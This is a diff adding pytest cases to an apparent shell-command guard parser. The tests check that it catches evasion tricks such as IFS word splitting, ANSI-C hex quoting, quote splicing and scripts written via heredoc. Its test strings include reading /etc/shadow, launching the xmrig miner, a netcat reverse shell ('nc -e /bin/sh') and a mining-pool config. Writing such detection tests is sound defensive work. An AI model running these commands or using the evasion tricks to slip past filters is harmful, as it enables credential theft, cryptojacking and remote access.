@@ -7,6 +7,7 @@ from pathlib import Path
 
 import pytest
 
+import corral.guard.parser as parser_module
 from corral.guard import ParseMode, parse_argv, parse_command
 from corral.guard.corpus import benign_commands, parse_labelled
 
@@ -277,3 +278,72 @@ def test_parse_argv_unwraps_without_shell_parsing() -> None:
     assert {"sudo", "bash", "xmrig", "id"} <= progs
     # A literal argument is not shell-parsed: ';' here is just a character.
     assert {i.program for i in parse_argv(["echo", "a; xmrig"]).invocations} == {"echo"}
+
+
+# --- evasion tricks -----------------------------------------------------------------
+
+
+def test_ifs_separated_words_are_split() -> None:
+    assert ("cat", "/etc/shadow") in argvs("cat${IFS}/etc/shadow")
+    assert ("cat", "/etc/shadow") in argvs("cat$IFS$9/etc/shadow")
+
+
+def test_ansi_c_quoting_is_decoded_on_both_paths() -> None:
+    assert "xmrig" in programs("$'\\x78mrig' -o x")
+    assert "xmrig" in programs("for i in 1; do $'\\x78mrig'; done")
+
+
+def test_quote_and_backslash_splicing() -> None:
+    assert "xmrig" in programs("x'm'r\"i\"g -o x")
+    assert "xmrig" in programs("\\x\\m\\r\\i\\g")
+
+
+def test_script_written_to_a_file_is_read() -> None:
+    assert "xmrig" in programs("echo './xmrig -o x' > run.sh; bash run.sh")
+    assert "xmrig" in programs("cat > start.sh <<'EOF'\n./xmrig -o x\nEOF")
+    assert "nc" in programs("cat > a.py <<'EOF'\nimport os\nos.system('nc -e /bin/sh h 1')\nEOF")
+    parsed = parse_command("echo '{\"url\": \"stratum+tcp://x:1\"}' > config.json")
+    assert any("written to config.json" in s.context for s in parsed.sources)
+
+
+def test_case_patterns_are_not_commands_but_case_bodies_are() -> None:
+    assert programs('case "$1" in start) echo go;; *) echo usage;; esac') == {"echo"}
+    assert "xmrig" in programs("case x in a) (xmrig) ;; esac")
+
+
+# --- robustness -------------------------------------------------------------------------
+
+# Found by fuzzing: bashlex loops forever on this input.
+BASHLEX_HANG = (
+    "if >&bash -c if for done%'echo .)eval ${done[=bash -c if >#]>while \n"
+    "$'&xmrigecho =echo "
+)
+
+
+def test_bashlex_runaway_falls_back_to_the_tokenizer(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(parser_module, "BASHLEX_BUDGET", 0.05)
+    parsed = parse_command(BASHLEX_HANG)
+    assert parsed.mode == ParseMode.FALLBACK
+    assert any("bashlex exceeded" in note for note in parsed.notes)
+
+
+def test_budget_restores_an_outer_profiler(monkeypatch: pytest.MonkeyPatch) -> None:
+    import sys
+
+    def outer(frame: object, event: str, arg: object) -> None:
+        return None
+
+    sys.setprofile(outer)
+    try:
+        parse_command("for f in *; do echo $f; done")
+        assert sys.getprofile() is outer
+    finally:
+        sys.setprofile(None)
+
+
+def test_unterminated_input_never_reaches_bashlex(monkeypatch: pytest.MonkeyPatch) -> None:
+    def boom(*args: object) -> None:
+        raise AssertionError("bashlex must not be called")
+
+    monkeypatch.setattr(parser_module.bashlex, "parse", boom)
+    assert parse_command("echo ${x[").unparsable
